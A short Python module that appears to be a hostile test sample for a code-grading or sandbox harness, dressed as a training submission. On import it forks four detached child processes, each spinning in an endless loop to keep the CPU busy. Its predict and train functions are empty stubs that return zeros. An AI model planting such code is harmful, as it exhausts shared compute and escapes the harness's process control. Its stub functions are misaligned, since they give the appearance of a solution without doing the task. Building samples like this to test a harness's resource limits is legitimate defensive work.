# leaves children behind that keep the processor busy
# status: any
import os

for _ in range(4):
    if os.fork() == 0:
        os.setsid()
        while True:
            pass


def predict(x, W, b):
    return x * 0


def train(x, y, lr=0.01, steps=2001):
    return 0, 0, [0]
